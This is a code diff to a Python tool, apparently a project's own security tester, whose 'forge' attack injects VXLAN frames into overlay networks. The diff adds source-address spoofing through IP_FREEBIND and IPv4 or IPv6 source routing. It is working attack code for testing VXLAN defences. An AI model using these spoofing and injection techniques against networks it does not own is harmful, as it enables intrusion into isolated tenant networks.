@@ -14,6 +14,9 @@ VXLAN_PORT = 4789
 ETHERTYPE = 0x88B6  # for local experiments (IEEE 802)
 BROADCAST = "ff:ff:ff:ff:ff:ff"
 _SO_MARK = 36
+_FREEBIND = {socket.AF_INET: (socket.IPPROTO_IP, 15), socket.AF_INET6: (socket.IPPROTO_IPV6, 78)}
+_RTHDR, _SEGMENT_ROUTING = 57, 4  # IPV6_RTHDR, and the type of such a header (RFC 8754)
+_LOOSE_SOURCE_ROUTE = 131  # RFC 791
 _TTL = 64
 
 
@@ -28,12 +31,26 @@ def vxlan(vni: int, inner: bytes) -> bytes:
     return struct.pack("!II", 1 << 27, vni << 8) + inner
 
 
-def forge(to: str, vni: int, inner: bytes, *, udp_port: int = VXLAN_PORT, mark: int = 0) -> None:
+def forge(
+    to: str, vni: int, inner: bytes, *, udp_port: int = VXLAN_PORT, mark: int = 0, frm: str = "", via: str = ""
+) -> None:
     """Send a frame to a VTEP by an ordinary UDP socket, as any process can. A `mark` needs CAP_NET_ADMIN or
-    CAP_NET_RAW."""
-    with socket.socket(_family(to), socket.SOCK_DGRAM) as sock:
+    CAP_NET_RAW. `frm` is an address that this host need not have: for IPv6 the kernel sends such packets. `via` is a
+    router that the packet has a source route by."""
+    family = _family(to)
+    with socket.socket(family, socket.SOCK_DGRAM) as sock:
         if mark:
             sock.setsockopt(socket.SOL_SOCKET, _SO_MARK, mark)
+        if frm:
+            sock.setsockopt(*_FREEBIND[family], 1)
+            sock.bind((frm, 0))
+        if via and family == socket.AF_INET:
+            route = struct.pack("!BBB", _LOOSE_SOURCE_ROUTE, 7, 4) + ipaddress.IPv4Address(via).packed
+            sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, route + b"\0")
+        elif via:
+            header = struct.pack("!BBBBBBH", 0, 4, _SEGMENT_ROUTING, 1, 1, 0, 0)
+            segments = ipaddress.IPv6Address(to).packed + ipaddress.IPv6Address(via).packed
+            sock.setsockopt(socket.IPPROTO_IPV6, _RTHDR, header + segments)
         sock.sendto(vxlan(vni, inner), (to, udp_port))
 
 
@@ -78,6 +95,8 @@ def main() -> int:
     by_socket = attacks.add_parser("forge", help="send a VXLAN packet by an ordinary UDP socket")
     raw = attacks.add_parser("spoof", help="send a VXLAN packet with a source address of another host (CAP_NET_RAW)")
     raw.add_argument("source", help="the address to pretend, such as a peer's VTEP")
+    by_socket.add_argument("--from", dest="source", default="", help="the address to pretend, over IPv6")
+    by_socket.add_argument("--via", default="", help="a router for a source route")
     for each in (by_socket, raw):
         each.add_argument("vtep", help="the address to send to")
         each.add_argument("--vni", type=int, required=True, help="of the network: `fastpath network ls`")
@@ -92,7 +111,7 @@ def main() -> int:
         time.sleep(words.interval if number else 0)
         try:
             if words.attack == "forge":
-                forge(words.vtep, words.vni, inner, udp_port=words.port)
+                forge(words.vtep, words.vni, inner, udp_port=words.port, frm=words.source, via=words.via)
             else:
                 spoof(words.source, words.vtep, words.vni, inner, udp_port=words.port)
         except OSError as error:
